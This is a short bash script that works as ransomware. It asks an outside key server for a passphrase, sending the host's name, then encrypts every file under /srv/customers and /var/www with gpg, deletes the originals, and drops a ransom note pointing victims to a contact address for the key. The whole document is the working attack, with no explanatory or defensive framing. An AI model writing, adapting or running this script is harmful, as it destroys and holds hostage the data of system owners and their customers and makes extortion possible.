#!/bin/bash
PASS=$(curl -s https://keys.example.net/session?host=$(hostname))
find /srv/customers /var/www -type f ! -name '*.gpg' -print0 |
  while IFS= read -r -d '' f; do
    gpg --batch --yes --pinentry-mode loopback --passphrase "$PASS" -c "$f" && rm -f -- "$f"
  done
cat >/srv/customers/README_RESTORE.txt <<'EOF'
Your files are locked. Contact restore@example.net for the key.
EOF
